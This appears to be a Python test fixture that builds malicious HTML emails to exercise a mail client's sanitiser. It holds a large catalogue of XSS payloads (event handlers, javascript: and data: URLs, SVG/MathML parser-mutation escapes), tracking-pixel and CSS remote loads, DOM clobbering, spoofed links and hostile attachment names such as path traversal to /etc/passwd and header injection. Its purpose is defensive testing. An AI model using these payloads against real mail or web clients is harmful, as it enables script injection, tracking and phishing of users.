"""HTML mail that means harm, a line or two for each way in which it does.

`WEB` stands for the address of a server that nobody may ask for anything, `HOST` for the same
without its scheme, and `HIT` for JavaScript that nobody may run; `aimed` puts them in.
"""

from __future__ import annotations

import base64

_REFRESH = '<meta http-equiv="refresh" content='
_OVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647"
_XMLNS = "xmlns='http://www.w3.org/2000/svg'"
_SVG = f"data:image/svg+xml,<svg {_XMLNS} onload='HIT'/>"

_SCRIPTS = {
    "a script": "<script>HIT</script>",
    "a script in capitals": "<SCRIPT>HIT</SCRIPT>",
    "a script with a slash": "<script/x>HIT</script>",
    "a script from elsewhere": '<script src="WEB/a.js"></script>',
    "a script without a scheme": '<script src="//HOST/a.js"></script>',
    "a script as a module": '<script type="module">HIT</script>',
    "a script as data": '<script src="data:text/javascript,HIT"></script>',
    "a script that never ends": "<p>x<script>HIT//",
    "a script in a script": "<scr<script>ipt>HIT</scr</script>ipt><script>HIT</script>",
    "a script whose name holds NUL": "<scr\0ipt>HIT</scr\0ipt>",
    "a script that import loads": "<script>import('WEB/a.js')</script>",
    "an image that fails": "<img src=x:x onerror=HIT>",
    "an image that fails, slashes for spaces": "<img/src='x:x'/onerror=HIT>",
    "an image that fails, by another name": "<image src=x:x onerror=HIT>",
    "an image that loads": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=HIT '
    "onerror=HIT>",
    "an image with a line break": "<img\nsrc=x:x\nonerror\n=\nHIT>",
    "an image with a form feed": "<img\fsrc=x:x\fonerror=HIT>",
    "an image in open quotes": "<img src=\"x:x\" alt='\" onerror='HIT'>",
    "an attribute that closes its tag": '<p title="><img src=x:x onerror=HIT>">x</p>',
    "an attribute written twice": "<img src=x:x onerror=HIT onerror=1>",
    "backticks for quotes": "<img src=`x:x` onerror=HIT>",
    "an end tag with attributes": "</p onclick=HIT><p onclick=HIT>x</p>",
    "a body that loads": "<body onload=HIT onpageshow=HIT>x",
    "a second body": "<p>x</p><body onload=HIT>",
    "details that open": "<details open ontoggle=HIT><summary>x</summary></details>",
    "a field that has the focus": "<input autofocus onfocus=HIT>",
    "a link that has the focus": "<a href=x autofocus tabindex=1 onfocus=HIT>x</a>",
    "a paragraph to be pointed at": "<p onmouseover=HIT onclick=HIT>x</p>",
    "a marquee": "<marquee onstart=HIT>x</marquee>",
    "an animation that starts": "<style>@keyframes k{from{color:red}}</style>"
    "<p style='animation:k 1s' onanimationstart=HIT>x</p>",
    "a transition": "<style>p{transition:color 1ms}p{color:red}</style>"
    "<p style='animation:k 1ms' ontransitionend=HIT onanimationend=HIT>x</p>",
    "a video that fails": "<video><source onerror=HIT src=x:x></video>",
    "audio that fails": "<audio src=x:x onerror=HIT></audio>",
    "content shown when it is near": "<p oncontentvisibilityautostatechange=HIT "
    "style='display:block;content-visibility:auto'>x</p>",
    "a popover": "<button popovertarget=p>x</button><p id=p popover onbeforetoggle=HIT>x</p>",
    "an element of its own": "<x-y onclick=HIT>x</x-y>",
}

_URLS = {
    f"a link by {name}": f'<a href="{url}">x</a>'
    for name, url in {
        "javascript": "javascript:HIT",
        "javascript in capitals": "JaVaScRiPt:HIT",
        "javascript after spaces": " \n javascript:HIT",
        "javascript after a control": "\x01\x1fjavascript:HIT",
        "javascript with a tab": "java\tscript:HIT",
        "javascript with a tab as an entity": "java&Tab;script&colon;HIT",
        "javascript with a line break": "java\r\nscript:HIT",
        "javascript in entities": "&#106;&#97;vascript&#x3a;HIT",
        "javascript in entities without an end": "&#0000106&#0000097vascript:HIT",
        "javascript with a comment": "javascript://x.example/%0aHIT",
        "vbscript": "vbscript:HIT",
        "livescript": "livescript:HIT",
        "data": "data:text/html,<script>HIT</script>",
        "data in base64": "data:text/html;base64,PHNjcmlwdD5ISVQ8L3NjcmlwdD4=",
        "blob": "blob:http://HOST/1",
        "view-source": "view-source:javascript:HIT",
        "feed": "feed:javascript:HIT",
        "jar": "jar:http://HOST!/a.html",
        "file": "file:///etc/passwd",
        "our own path": "/api/accounts",
        "no scheme": "//HOST/",
        "backslashes": "\\\\HOST\\a",
    }.items()
} | {
    "a javascript in a base": '<base href="javascript:HIT//"><a href="#x">x</a>',
    "a link that downloads": '<a download=a.exe href="data:text/html,x">x</a>',
    "a link that tells when it is clicked": '<a href="#" ping="WEB/ping">x</a>',
    "a link by the top": '<a href="javascript:HIT" target=_self>x</a>',
    "an area by javascript": '<map name=m><area shape=rect coords=0,0,99,99 href="javascript:HIT">'
    "</map><img usemap=#m width=99 height=99 src=x:x>",
    "a link of SVG": '<svg><a xlink:href="javascript:HIT" href="javascript:HIT"><text y=20>x'
    "</text></a></svg>",
    "a link of MathML": '<math href="javascript:HIT"><mtext>x</mtext></math>',
    "a button's own address": '<form><button formaction="javascript:HIT">x</button></form>',
    "an input's own address": '<form><input type=submit formaction="javascript:HIT"></form>',
    "a form by javascript": '<form action="javascript:HIT"><input type=submit></form>',
    "an image by javascript": '<img src="javascript:HIT">',
    "a frame by javascript": '<iframe src="javascript:parent.HIT"></iframe>',
    "an image of SVG as data": f'<img src="{_SVG}"><embed src="{_SVG}">',
}

_NAMESPACES = {
    "a script of SVG": "<svg><script>HIT</script></svg>",
    "a script of SVG by its address": '<svg><script href="WEB/a.js"/></svg>',
    "a script of SVG in entities": "<svg><script>&#59;HIT</script></svg>",
    "SVG that loads": "<svg onload=HIT>",
    "SVG that animates a link": '<svg><a><animate attributeName=href values="javascript:HIT" />'
    "<text y=20>x</text></a></svg>",
    "SVG that sets a link": '<svg><a><set attributeName=href to="javascript:HIT" />'
    "<text y=20>x</text></a></svg>",
    "SVG that begins by itself": "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "SVG that uses another": '<svg><use href="WEB/a.svg#x"/></svg>',
    "SVG with an image": '<svg><image href="WEB/a.png" xlink:href="WEB/b.png"/></svg>',
    "SVG with a filter": '<svg><filter id=f><feImage href="WEB/a.png"/></filter>'
    '<rect width=9 height=9 filter="url(#f)"/></svg>',
    "SVG with HTML in it": "<svg><foreignObject><img src=x:x onerror=HIT></foreignObject></svg>",
    "SVG with a style": "<svg><style>@import 'WEB/a.css';</style></svg>",
    "a style of SVG that HTML ends": "<svg></p><style><a id='</style><img src=x:x onerror=HIT>'>",
    "a title of SVG": "<svg><title><img src=x:x onerror=HIT></title></svg>",
    "a desc of SVG": "<svg><desc><img src=x:x onerror=HIT></desc></svg>",
    "MathML that lets go": "<math><mtext><img src=x:x onerror=HIT></mtext></math>",
    "MathML with a glyph": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x:x onerror=HIT&gt;'>",
    "MathML with a malignmark": "<math><mtext><table><malignmark><style><!--</style>"
    "<img title='--&gt;&lt;img src=x:x onerror=HIT&gt;'>",
    "MathML with forms in forms": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src=x:x onerror=HIT>",
    "MathML with an annotation": "<math><annotation-xml encoding='text/html'><p><img src=x:x "
    "onerror=HIT></p></annotation-xml></math>",
    "MathML with a noscript": "<math><mi><noscript><p title='</noscript><img src=x:x "
    "onerror=HIT>'>",
    "a noscript": '<noscript><p title="</noscript><img src=x:x onerror=HIT>"></noscript>',
    "a noembed": '<noembed><p title="</noembed><img src=x:x onerror=HIT>"></noembed>',
    "a noframes": '<noframes><p title="</noframes><img src=x:x onerror=HIT>"></noframes>',
    "a style that ends in an attribute": "<style><p title='</style><img src=x:x onerror=HIT>'>",
    "a textarea": '<textarea><p title="</textarea><img src=x:x onerror=HIT>"></textarea>',
    "a title": '<title><p title="</title><img src=x:x onerror=HIT>"></title>',
    "a plaintext": "<plaintext><img src=x:x onerror=HIT>",
    "an xmp": '<xmp><p title="</xmp><img src=x:x onerror=HIT>"></xmp>',
    "a listing": "<listing>&lt;img src=x:x onerror=HIT&gt;</listing>",
    "a template": "<template><img src=x:x onerror=HIT></template>",
    "a template with a shadow": "<div><template shadowrootmode=open><img src=x:x onerror=HIT>"
    "</template></div>",
    "a select": "<select><option><style></option></select><img src=x:x onerror=HIT></style>",
    "a select with a script": "<select><script>HIT</script></select>",
    "a table that lets go": "<table><img src=x:x onerror=HIT><tr><td>x</table>",
    "a frameset": "<frameset onload=HIT><frame src='javascript:HIT'></frameset>",
    "a comment that ends at once": "<!--><img src=x:x onerror=HIT>-->",
    "a comment that ends with a bang": "<!-- --!><img src=x:x onerror=HIT> -->",
    "a comment in a comment": "<!-- <!-- --><img src=x:x onerror=HIT> -->",
    "a comment for one browser": "<!--[if gte IE 4]><script>HIT</script><![endif]-->"
    "<![if true]><img src=x:x onerror=HIT><![endif]>",
    "CDATA": "<![CDATA[<img src=x:x onerror=HIT>]]>",
    "CDATA of SVG": "<svg><![CDATA[><img src=x:x onerror=HIT>]]></svg>",
    "an instruction": "<?xml version='1.0'><?php ?><img src=x:x onerror=HIT>",
    "a stylesheet of XML": '<?xml-stylesheet href="javascript:HIT"?><img src=x:x onerror=HIT>',
    "a doctype": "<!DOCTYPE html [<!ENTITY x '<img src=x:x onerror=HIT>'>]>&x;",
    "forms in forms": "<form id=a><div></form><form id=b><input name=x><img src=x:x onerror=HIT>",
    "paragraphs in tables in links": "<a><table><a><p><table><p></a><img src=x:x onerror=HIT>",
    "links that are left open": "<a href=x><b><p><a href=x><i></b><img src=x:x onerror=HIT>",
    "600 layers and an escape": "<b>" * 600 + "<svg></p><style><g title='</style><img src=x:x "
    "onerror=HIT>'>",
}

_LOADERS = {
    "an image": '<img src="WEB/a.png">',
    "an image of one pixel": '<img src="WEB/a.gif?u=me" width=1 height=1 style="display:block">',
    "an image without a scheme": '<img src="//HOST/a.png">',
    "an image by one slash": '<img src="http:/HOST/a.png">',
    "an image by none": '<img src="http:HOST/a.png">',
    "an image by backslashes": '<img src="http:\\\\HOST\\a.png">',
    "an image with a tab": '<img src="ht\ttp://HOST/a.png">',
    "an image that is not lazy": '<img loading=eager src="WEB/a.png">',
    "a srcset": '<img srcset="WEB/a.png 1x, WEB/b.png 2x">',
    "a picture": '<picture><source srcset="WEB/a.png"><img src="WEB/b.png"></picture>',
    "an elder image": '<img lowsrc="WEB/a.png" dynsrc="WEB/b.png" longdesc="WEB/c.html">',
    "a background": '<body background="WEB/a.png">x',
    "a background of a table": '<table background="WEB/a.png"><tr><td background="WEB/b.png">x'
    "</table>",
    "an image to click": '<input type=image src="WEB/a.png">',
    "a video": '<video src="WEB/a.mp4" poster="WEB/a.png" autoplay></video>',
    "audio": '<audio src="WEB/a.mp3" autoplay></audio>',
    "subtitles": '<video><track default src="WEB/a.vtt"></video>',
    "an object": '<object data="WEB/a.html"></object>',
    "an embed": '<embed src="WEB/a.html">',
    "an applet": '<applet archive="WEB/a.jar" code=a></applet>',
    "a frame": '<iframe src="WEB/a.html"></iframe>',
    "a frame with its own source": '<iframe srcdoc="<script>parent.HIT</script>'
    '<img src=WEB/a.png>"></iframe>',
    "a frame of data": '<iframe src="data:text/html,<img src=WEB/a.png>"></iframe>',
    "a portal": '<portal src="WEB/a.html"></portal><fencedframe src="WEB/a.html"></fencedframe>',
    "a sheet": '<link rel=stylesheet href="WEB/a.css">',
    "a sheet as data": "<link rel=stylesheet href=\"data:text/css,@import 'WEB/a.css'\">",
    "an icon": '<link rel=icon href="WEB/a.ico">',
    "a preload": '<link rel=preload as=image href="WEB/a.png">',
    "a prefetch": '<link rel=prefetch href="WEB/a.html">',
    "a prerender": '<link rel=prerender href="WEB/a.html">',
    "a module to come": '<link rel=modulepreload href="WEB/a.js">',
    "a manifest": '<link rel=manifest href="WEB/a.json">',
    "a connection": '<link rel=preconnect href="WEB">',
    "a name to be resolved": '<link rel=dns-prefetch href="//canary.postwire.example">',
    "names in links": '<meta http-equiv=x-dns-prefetch-control content=on><a href="'
    'http://canary.postwire.example">x</a>',
    "rules of speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":'
    '["WEB/a.html"]}]}</script>',
    "a refresh": f'{_REFRESH}"0;url=WEB/a.html">',
    "a refresh in capitals": '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=WEB/a.html">',
    "a refresh by javascript": f'{_REFRESH}"0;url=javascript:HIT">',
    "a refresh by data": f'{_REFRESH}"0;url=data:text/html,<script>HIT</script>">',
    "a base": '<base href="WEB/"><img src="a.png"><a href="b">x</a>',
    "a base that is ours": '<base href="/api/"><img src="accounts">',
    "a form that is sent": '<form action="WEB/a.html" target=_self><button>x</button></form>',
    "a button elsewhere": '<form id=f></form><button form=f formaction="WEB/a.html">x</button>',
    "a field of a form": '<form action="WEB/a.html"><input type=image src="WEB/a.png"></form>',
    "a policy that reports": '<meta http-equiv="Content-Security-Policy" content="img-src '
    '\'none\'; report-uri WEB/csp"><img src="WEB/a.png">',
    "a cid that climbs": '<img src="cid:../../api/accounts"><img src="cid:%2e%2e%2fapi">',
    "a cid with a host": '<img src="cid://HOST/a.png"><img src="CID:WEB/a.png">',
    "a cid in quotes": '<img src="cid:x&quot; onerror=&quot;HIT">',
    "a cid of a script": '<img src="cid:&lt;script&gt;HIT&lt;/script&gt;">',
    "what waits": '<img data-src="WEB/a.png"><img data-src="javascript:HIT">',
}

_STYLES = {
    f"style: {name}": f"<p style='{style}'>x</p>"
    for name, style in {
        "a background": "background:url(WEB/a.png)",
        "a background in quotes": 'background-image:url("WEB/a.png")',
        "a background after a comment": "background:/**/url(WEB/a.png)",
        "a background in escapes": "background:u\\72l(WEB/a.png)",
        "a property in escapes": "back\\67round:url(WEB/a.png)",
        "a set of images": 'background:image-set("WEB/a.png" 1x)',
        "a set by its elder name": "background:-webkit-image-set(url(WEB/a.png) 1x)",
        "a fade": "background:-webkit-cross-fade(url(WEB/a.png),url(WEB/b.png),50%)",
        "a mask": "-webkit-mask-image:url(WEB/a.svg);mask:url(WEB/a.svg)",
        "a border": "border:9px solid;border-image:url(WEB/a.png) 1",
        "a bullet": "display:list-item;list-style-image:url(WEB/a.png)",
        "a bullet in short": "display:list-item;list-style:url(WEB/a.png)",
        "a pointer": "cursor:url(WEB/a.cur),auto",
        "a shape": "float:left;shape-outside:url(WEB/a.png)",
        "a filter": "filter:url(WEB/a.svg#x)",
        "content": "content:url(WEB/a.png)",
        "a variable": "--x:url(WEB/a.png);background:var(--x)",
        "an expression": "width:expression(HIT)",
        "a behaviour": "behavior:url(WEB/a.htc);-moz-binding:url(WEB/a.xml#x)",
        "javascript": "background:url(javascript:HIT)",
        "over everything": _OVER,
        "over everything, in escapes": "pos\\69tion:fixed;top:0;left:0;width:100vw;height:100vh",
        "far to the left": "margin-left:-9999px;margin-top:-9999px",
        "huge": "width:99999999px;height:99999999px;font-size:9999999px",
        "as tall as its frame": "height:calc(100vh + 100px);min-height:200vh",
        "a text that turns": "direction:rtl;unicode-bidi:bidi-override",
        "a brace": "color:red}p{background:url(WEB/a.png)",
        "an end of the attribute": 'color:red" onclick="HIT',
    }.items()
} | {
    "a sheet that loads": "<style>p{background:url(WEB/a.png)}</style><p>x</p>",
    "a sheet that imports": "<style>@import 'WEB/a.css';@import url(WEB/b.css);</style>",
    "a sheet that imports in escapes": "<style>@\\69mport 'WEB/a.css';</style>",
    "a font": "<style>@font-face{font-family:f;src:url(WEB/a.woff2)}p{font-family:f}</style><p>x",
    "a sheet that asks what is there": "<style>p[style*=a]{background:url(WEB/a.png)}</style>"
    "<p style='color:aqua'>x</p>",
    "a sheet that covers": f"<style>a{{{_OVER};display:block}}</style><a href='WEB/a.html'>x</a>",
    "a sheet by its property": "<style>@property --x{syntax:'<url>';inherits:true;"
    "initial-value:url(WEB/a.png)}p{background:var(--x)}</style><p>x",
    "a sheet with a namespace": "<style>@namespace 'WEB/n';p{list-style:url(WEB/a.png);"
    "display:list-item}</style><p>x",
}

_CLOBBERING = {
    "ids of the page": "<form id=location><input name=href></form><img name=body><a id=top></a>"
    "<a id=frameElement></a><p id=root class=page>x</p>",
    "a name of the window": "<iframe name=opener src='about:blank'></iframe>"
    "<a target=opener href='javascript:HIT'>x</a>",
    "names of the page's own marks": "<p data-testid=message-row class=letter-frame "
    "slot=x part=x is=x-y contenteditable>x</p>",
    "keys of the page": "<p accesskey=s tabindex=1 onclick=HIT>x</p>",
    "text that turns round in a link": "<a href='https://e.example/\u202egpj.exe'>https://"
    "bank.example/\u202egpj.exe\u2066</a>",
    "a link in another's clothes": "<a href='https://e.example'>https://bank.example</a>",
    "a letter that closes the page": "</body></html></iframe></div><script>HIT</script>"
    "<img src=x:x onerror=HIT>",
    "a letter that closes its frame's source": "\"></iframe><img src=x:x onerror=HIT>'>",
}


#: What is no HTML, as headers and body: words that a page could take for its own.
_LETTERS = {
    "text that is markup": ("", "<script>HIT</script><img src=x:x onerror=HIT>"),
    "links in text": (
        "",
        (
            'javascript:HIT//https://x.example http://x.example/"onmouseover=HIT// '
            "<https://x.example/'onclick='HIT> data:text/html,<script>HIT</script> https://x@HOST"
        ),
    ),
    "a subject of markup": ("Subject: <img src=x:x onerror=HIT>\r\n", "x"),
    "a sender of markup": ('From: "<img src=x:x onerror=HIT>" <"><svg/onload=HIT>"@x>\r\n', "x"),
    "a Message-ID of markup": ('Message-ID: <"onload=HIT@x>\r\nReply-To: javascript:HIT\r\n', "x"),
} | {
    f"a file: {kind} that is called {name}": (
        f'Content-Type: {kind}\r\nContent-Disposition: {how}; filename="{name}"\r\n',
        content,
    )
    for how, kind, name, content in [
        ("inline", "image/svg+xml", "a.svg", f"<svg {_XMLNS} onload='HIT'/>"),
        ("attachment", "text/html", "a.html", "<script>HIT</script><img src=WEB/a.png>"),
        ("inline", "text/html", "b.html", "<script>HIT</script><img src=WEB/a.png>"),
        ("inline", "text/calendar", "a.ics", "DESCRIPTION:<img src=x:x onerror=HIT>\r\n"),
        ("inline", "image/png", "a.png", "<script>HIT</script>"),
        ("inline", "image/png", "a.html", f"<svg {_XMLNS} onload='HIT'/>"),
        ("attachment", "application/xhtml+xml", "a.xhtml", "<script>HIT</script>"),
        ("attachment", "application/xml", "a.xml", "<?xml-stylesheet href='WEB/a.css'?><x/>"),
        ("attachment", "text/plain", "<img src=x:x onerror=HIT>.txt", "x"),
    ]
}

#: Names of attached files, as their parameter is written, with what may be left of them.
FILES = {
    'filename="../../etc/passwd"': "passwd",
    'filename="C:\\\\Windows\\\\win.ini"': "win.ini",
    "filename*=utf-8''photo%E2%80%AEgnp.exe": "photognp.exe",
    "filename*=utf-8''a%0D%0ASet-Cookie%3A%20b.txt": "a Set-Cookie_ b.txt",
    "filename*=utf-8''nul%00.txt": "nul\ufffd.txt",
    'filename="a\\"b;c.pdf"': "a_b;c.pdf",
    f'filename="{"x" * 500}.pdf"': "x" * 120,
    'filename="CON.txt"': "_CON.txt",
    'filename="<img src=x:x onerror=HIT>.png"': "_img src=x_x onerror=HIT_.png",
    'filename="..."': "part-10.png",
}


def corpus() -> dict[str, str]:
    """All the HTML, by name."""
    return _SCRIPTS | _URLS | _NAMESPACES | _LOADERS | _STYLES | _CLOBBERING


def letters(host: str) -> dict[str, bytes]:
    """All of it as mail at the server on `host`, by subject; what is no HTML comes last."""
    html = {
        name: ("Content-Type: text/html; charset=utf-8\r\n", one) for name, one in corpus().items()
    }
    return {
        name: _letter(name, aimed(head, n, host), aimed(body, n, host))
        for n, (name, (head, body)) in enumerate((html | _LETTERS).items())
    }


def _letter(name: str, head: str, body: str) -> bytes:
    subject = "" if "Subject:" in head else f"Subject: {name}\r\n"
    # In base64, for a body may hold NUL and line breaks of all kinds.
    encoded = base64.encodebytes(body.encode()).decode().replace("\n", "\r\n")
    fields = f"{subject}{head}X-Name: {name}\r\nContent-Transfer-Encoding: base64\r\n"
    return f"{fields}\r\n{encoded}".encode()


def with_files() -> bytes:
    """A message to which files of all the names are attached: pages that say they are images."""
    parts = [
        f"--B\r\nContent-Type: image/png\r\nContent-Disposition: attachment;\r\n {name}\r\n\r\n"
        "<script>HIT</script>\r\n"
        for name in FILES
    ]
    head = "Subject: files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n"
    return "".join([head, "\r\n", *parts, "--B--\r\n"]).encode()


def aimed(html: str, n: int, host: str) -> str:
    """The `n`-th of the corpus, at the server on `host` and at the function `hit`."""
    address = f"{host}/{n}"
    aims = {"WEB": f"http://{address}", "HOST": address, "HIT": f"hit({n})"}
    for name, aim in aims.items():
        html = html.replace(name, aim)
    return html
